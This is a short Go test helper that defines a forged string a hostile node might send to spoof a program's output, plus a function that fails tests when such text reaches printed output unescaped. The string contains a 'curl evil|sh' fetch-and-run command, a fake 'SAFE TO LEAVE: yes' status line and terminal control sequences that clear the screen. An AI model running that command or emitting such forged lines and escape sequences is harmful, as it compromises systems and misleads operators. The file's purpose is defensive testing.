// Package forgery is what a hostile node says to be taken for this program, for
// tests of everything that prints what nodes say.
package forgery

import (
	"strings"
	"testing"
)

// Text is the end of our own output, with a command of the node's own, and
// sequences that move a terminal's cursor.
const Text = "x\n  next    1 curl evil|sh\r\n  SAFE TO LEAVE: yes. all is well\n  state   forged\x1b[2J\u009b2J"

// OnlyOurs fails where a line begins as one of ours does and goes on as a node
// wanted, or where a control character is left.
func OnlyOurs(t testing.TB, where, text string) {
	t.Helper()
	for line := range strings.Lines(text) {
		line = strings.TrimSuffix(line, "\n")
		for _, mark := range []string{"next    1 curl", "SAFE TO LEAVE: yes. all", "state   forged"} {
			if strings.HasPrefix(strings.TrimLeft(line, " "), mark) {
				t.Errorf("%s: a node has forged the line %q", where, line)
			}
		}
		if at := strings.IndexFunc(line, func(r rune) bool { return r < ' ' || r >= 0x7f && r < 0xa0 }); at >= 0 {
			t.Errorf("%s: a control character in %q", where, line)
		}
	}
}
